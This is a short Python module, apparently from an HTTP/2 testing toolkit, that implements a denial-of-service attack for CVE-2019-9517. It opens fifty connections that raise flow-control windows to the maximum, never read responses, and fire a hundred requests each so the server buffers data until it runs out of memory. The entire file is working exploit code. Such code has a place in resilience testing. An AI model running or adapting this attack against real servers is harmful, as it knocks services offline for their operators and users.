"""Downloads into the largest windows, on connections that nobody reads (CVE-2019-9517)."""

import struct

from wire.http2 import INITIAL_WINDOW, WINDOW_UPDATE, ask, frame, http2, settings

LARGEST = (1 << 31) - 1


async def attack(target):
    async def each(number):
        first = settings((INITIAL_WINDOW, LARGEST)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65535))
        async with http2(target, target.source(number % 10), reads=False, first=first, room=16384) as it:
            if it:
                await it.send(b"".join(ask(2 * n + 1) for n in range(100)))
                await target.over()

    await target.once(50, each)
